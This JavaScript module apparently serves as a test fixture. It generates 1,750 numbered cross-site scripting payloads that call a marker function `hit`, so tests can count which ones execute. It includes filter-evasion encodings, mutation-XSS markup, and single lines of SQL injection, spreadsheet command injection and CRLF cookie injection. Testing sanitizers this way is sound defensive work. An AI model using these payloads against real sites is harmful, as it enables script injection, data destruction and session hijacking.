// Hostile texts for X3: a small grammar of what makes a page run somebody's words, and one fixed list
// out of it. Whatever runs touches `hit`, which nothing else does; the number says which text it was,
// and stands behind it once more in plain digits, so that a screen can be counted.

const SEED = 0x6e6f6162;
const COUNT = 1750;

/** The next number below `most`, the same in every run (mulberry32). */
function dice(seed) {
	return (most) => {
		seed = (seed + 0x6d2b79f5) | 0;
		let x = Math.imul(seed ^ (seed >>> 15), 1 | seed);
		x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
		return ((x ^ (x >>> 14)) >>> 0) % most;
	};
}

const CALLS = [
	(n) => `hit(${n})`, (n) => `hit\`${n}\``, (n) => `window.hit=${n}`, (n) => `self['h'+'it']=${n}`, (n) => `top.hit(${n})`,
	(n) => `parent.hit=${n}`, (n) => `(0,eval)('hit(${n})')`, (n) => `Function('hit(${n})')()`, (n) => `\\u0068it(${n})`,
	(n) => `[${n}].map(hit)`, (n) => `import('data:text/javascript,hit=${n}')`, (n) => `setTimeout('hit(${n})')`,
];

/** [tag, attributes that make it act, handlers that fire without anybody] */
const TAGS = [
	['img', 'src=x', ['onerror']], ['img', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', ['onload']],
	['svg', '', ['onload']], ['iframe', '', ['onload']], ['iframe', 'src=/', ['onload']], ['video', 'src=x', ['onerror', 'onloadstart']],
	['audio', 'src=x', ['onerror']], ['input', 'autofocus', ['onfocus']], ['textarea', 'autofocus', ['onfocus']],
	['select', 'autofocus', ['onfocus']], ['button', 'autofocus', ['onfocus', 'onclick']], ['details', 'open', ['ontoggle']],
	['body', '', ['onload', 'onpageshow', 'onfocus', 'onhashchange']], ['marquee', '', ['onstart', 'onfinish']], ['object', 'data=x', ['onerror']],
	['embed', 'src=x', ['onload']], ['link', 'rel=stylesheet href=x', ['onerror', 'onload']], ['style', '', ['onload']],
	['script', 'src=x', ['onerror']], ['a', 'href=# autofocus', ['onfocus', 'onpointerenter', 'onmouseover']],
	['div', 'style="animation:a 1s"', ['onanimationstart', 'onwheel', 'onpointerover']], ['form', '', ['onsubmit', 'onformdata']],
	['dialog', 'open', ['onclose', 'onbeforetoggle']], ['x-noaber', 'tabindex=1 autofocus', ['onfocus', 'onfocusin']], ['math', '', ['onclick', 'onmouseover']],
	['image', 'src=x', ['onerror']], ['source', 'src=x', ['onerror']], ['input', 'type=image src=x', ['onerror']], ['frameset', '', ['onload']],
];

const SCHEMES = [
	'javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'javascript&colon;', '&#106avascript:',
	'&#x6A;avascript:', 'javascript%3A', '%6aavascript:', 'java\u200bscript:', '\u202ejavascript:', 'ｊａｖａｓｃｒｉｐｔ:', 'javascript://https://a.nl/%0A',
	'vbscript:', 'livescript:', 'view-source:javascript:', 'feed:javascript:', 'jar:javascript:', 'blob:javascript:', 'filesystem:javascript:',
	'data:text/javascript,', 'data:text/html,<script>', 'DATA:text/html;charset=utf-7,', 'data:image/svg+xml,<svg onload=', 'data:,', 'intent:',
	'https:javascript:', 'https://javascript:', '//javascript:', 'about:blank#', 'ws:', 'file:///', 'x:',
];

const LINKS = [
	(url) => url, (url) => `[klik](${url})`, (url) => `![beeld](${url})`, (url) => `<${url}>`, (url) => `[klik]: ${url}`, (url) => `[klik](<${url}> "x")`,
	(url) => `**[klik](${url})**`, (url) => `_${url}_`, (url) => `[[${url}]]`, (url) => `[url=${url}]klik[/url]`, (url) => `"klik":${url}`,
	(url) => `<a href="${url}">klik</a>`, (url) => `<a href='${url}' target=_top>klik</a>`, (url) => `<svg><a xlink:href="${url}"><text>k</text></a></svg>`,
	(url) => `<form action="${url}"><button>k</button></form>`, (url) => `<button formaction="${url}">k</button>`, (url) => `<iframe src="${url}">`,
	(url) => `<object data="${url}">`, (url) => `<embed src="${url}">`, (url) => `<base href="${url}">`, (url) => `<meta http-equiv=refresh content="0;${url}">`,
	(url) => `<link rel=prefetch href="${url}">`, (url) => `<img srcset="${url} 2x">`, (url) => `<a ping="${url}" href=/>k</a>`,
	(url) => `<animate attributeName=href values="${url}">`, (url) => `https://a.nl/"onmouseover="${url}`, (url) => `https://a.nl/?u=${url}`, (url) => `https://a.nl@${url}`,
];

/** What may stand before, to get out of where the text stands. */
const BREAKOUTS = [
	'', '', '', '">', "'>", '-->', '--!>', ']]>', '*/', '`', '\\"', '"}]}', "');", '</textarea>', '</title>', '</style>', '</script>', '</noscript>',
	'</template>', '</svg>', '</p></div>', '<!--', '<![CDATA[', '<%', '{{', '${', '\u2028', '\ufeff', '\u202e', '\u200b', '%22%3E', '&quot;&gt;', '\\u003e', '＂＞',
];

const SPACES = [' ', '/', '\t', '\n', '  ', '/x/', '\u000c'];

const everyOther = (text) => [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('');
const entities = (text, form) => text.replace(/[<>"'=()]/g, (c) => form(c.charCodeAt(0)));

/** How a text may be written, so that one who decodes it too late or too often is found. */
const WRITINGS = [
	(text) => text, (text) => text, (text) => text, (text) => text.replace(/<\w+/, everyOther),
	(text) => entities(text, (c) => `&#${c};`), (text) => entities(text, (c) => `&#x${c.toString(16)}`), (text) => entities(text, (c) => `&amp;#${c};`),
	(text) => entities(text, (c) => `%${c.toString(16)}`), (text) => entities(text, (c) => `%25${c.toString(16)}`),
	(text) => entities(text, (c) => `\\x${c.toString(16)}`), (text) => entities(text, (c) => `\\u00${c.toString(16)}`),
	(text) => text.replace('<', '<\u0000'), (text) => text.replace('<', '\u202d<'), (text) => text.replace(/\w(?=\w)/, '$&\u200d'),
	(text) => text.replace(/</g, '＜').replace(/>/g, '＞'), (text) => text.replace('<', '<<'), (text) => text.replace('>', ''), (text) => `${text}<`,
];

const TEMPLATES = [
	(call) => `{{constructor.constructor("${call}")()}}`, (call) => `\${${call}}`, (call) => `#{${call}}`, (call) => `<%= ${call} %>`, (call) => `{%${call}%}`,
	(call) => `[[\${${call}}]]`, (call) => `<div ng-app ng-init="${call}">`, (call) => `<div v-html="${call}">`, (call) => `<div x-data x-init="${call}">`,
	(call) => `<b hx-on:load="${call}">`, (call) => `{"type":"script","props":{"children":"${call}"}}`,
	(call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`, (call) => `{"__proto__":{"hit":"${call}"}}`,
	(call) => `{"constructor":{"prototype":{"hit":"${call}"}}}`, (call) => `__proto__[hit]=${call}`, (call) => `toString":${call},"`, (call) => `"},"ev":"${call}`,
	(call) => `\n{"ev":"session.ended","data":{"why":"${call}"}}\n`, (call) => `navigator.serviceWorker.register("data:,${call}")`, (call) => `/sw.js?${call}`,
	(call) => `/g/../../sw.js#${call}`, (call) => `\r\nSet-Cookie: __Host-nb=${call}`, (call) => `'; DROP TABLE message; -- ${call}`, (call) => `=cmd|' /C ${call}'!A0`,
	(call) => `style="background:url(javascript:${call})"`, (call) => `<div style="width:expression(${call})">`, (call) => `<style>@import 'javascript:${call}';</style>`,
	(call) => `<style>*{background:url("//a.nl/${call}")}</style>`, (call) => `<script>${call}</script>`, (call) => `<script type=module>${call}</script>`,
	(call) => `<svg><script>${call}</script></svg>`, (call) => `<svg><script href="data:,${call}"/></svg>`, (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
	(call) => `<template shadowrootmode=open><script>${call}</script></template>`,
	// What one parser reads as text and the next one, of the same words put back, as a tag.
	(call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
	(call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`, (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
	(call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`, (call) => `<svg><foreignObject><iframe onload=${call}>`,
	(call) => `<table><td background="x"><img src=x onerror=${call}>`, (call) => `<a id=hit></a><a id=hit name=x href="javascript:${call}">`,
	(call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`, (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
];

/** Names that a map of names may trip over, as they are. */
export const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf', 'undefined', 'null', 'NaN', 'true', '-1', '.', '..'];

/** Texts that swallow what comes behind them, where they are read as HTML: they stand last in a row. */
const SWALLOWS = /<!--|<!\[|<\/?\W*(?:textarea|title|style|script|xmp|noscript|template|iframe|select|frameset|math|table)/i;

function build() {
	const next = dice(SEED);
	const one = (list) => list[next(list.length)];
	const element = (call) => {
		const [tag, more, handlers] = one(TAGS);
		const space = one(SPACES), quote = one(['', '"', "'", '`']);
		return `<${tag}${more && space + more}${space}${one(handlers)}=${quote}${call}${quote}>`;
	};
	const shapes = [
		element, element, (call) => one(LINKS)(one(SCHEMES) + call), (call) => one(LINKS)(one(SCHEMES) + call), (call) => one(TEMPLATES)(call),
	];
	const texts = new Set();
	for (const [i, template] of TEMPLATES.entries()) texts.add(`${template(CALLS[0](i))} ~${i}~`);
	while (texts.size < COUNT) {
		const n = texts.size;
		texts.add(`${one(BREAKOUTS)}${one(WRITINGS)(one(shapes)(one(CALLS)(n)))} ~${n}~`);
	}
	return [...texts];
}

const built = build();
/** All of them, each with its number at the end as ` ~n~`. */
export const PAYLOADS = [...built.filter((text) => !SWALLOWS.test(text)), ...built.filter((text) => SWALLOWS.test(text))];

/** The numbers of the texts that stand in some text. */
export const numbersIn = (text) => new Set([...text.matchAll(/~(\d+)~/g)].map(([, n]) => Number(n)));

/** The texts in as few parts as fit in so many characters; those that are longer are left out. */
export function packed(most, between = '\n\n', texts = PAYLOADS) {
	const parts = [];
	let part = [], length = 0;
	for (const text of texts) {
		const more = [...text].length + between.length;
		if (more > most) continue;
		if (length + more > most) {
			parts.push(part);
			part = [];
			length = 0;
		}
		part.push(text);
		length += more;
	}
	if (part.length > 0) parts.push(part);
	return parts;
}
